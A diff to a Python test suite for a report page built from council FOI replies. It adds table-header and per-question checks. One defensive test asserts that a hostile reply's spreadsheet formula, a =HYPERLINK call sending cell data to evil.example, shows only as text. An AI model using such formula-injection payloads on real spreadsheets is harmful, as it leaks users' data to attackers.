@@ -79,6 +79,11 @@ def table(document, element_id: str) -> list[list[str]]:
     return [[text(td) for td in tr] for tr in body.iterfind(".//h:tbody/h:tr", NS)]
 
 
+def heads(document, element_id: str) -> list[str]:
+    found = document.find(f".//*[@id='{element_id}']//h:thead/h:tr", NS)
+    return [text(th) for th in found]
+
+
 def test_the_page_counts_what_status_counts(big):
     document = parse(big["html"])
     rows = big["status"]
@@ -145,7 +150,9 @@ def test_nothing_on_the_page_reaches_the_network(big):
     assert not document.findall(".//h:link", NS) and not document.findall(".//h:img", NS)
     # the hostile reply's formula is shown as text, never made a link
     leeds = document.find(".//h:tr[@data-council='leeds']", NS)
-    assert text(leeds[9]).startswith('=HYPERLINK("https://evil.example/steal?d="&A1')
+    q1 = leeds[9]
+    assert q1.find("h:span", NS).text == "answered"
+    assert q1.find("h:span", NS).tail.startswith('=HYPERLINK("https://evil.example/steal?d="&A1')
     assert not [
         a for a in document.iter("{http://www.w3.org/1999/xhtml}a") if "evil" in str(a.get("href"))
     ]
@@ -190,6 +197,10 @@ def numbers(html: str) -> dict:
         "answers_over_time": table(document, "chart-over-time"),
         "time_to_answer": table(document, "chart-time-to-answer"),
         "by_nation": table(document, "chart-by-nation"),
+        "per_question": [
+            heads(document, "chart-per-question"),
+            *table(document, "chart-per-question"),
+        ],
         "statuses": dict(
             sorted(
                 Counter(
@@ -243,7 +254,7 @@ def test_per_question_rates_count_each_status_and_exemption():
         reply("withheld s40(2)", "answered", "answered", "answered", "answered"),
         reply("withheld s40(2)", "answered", "not_held", "answered", "cost_limit"),
         reply("withheld s43", "redirected", "answered", "unclear", "answered"),
-        SimpleNamespace(),  # no reply yet
+        SimpleNamespace(questions={}),  # no reply yet, or one recorded without statuses
     ]
     table = by_question(states)
     assert table == {
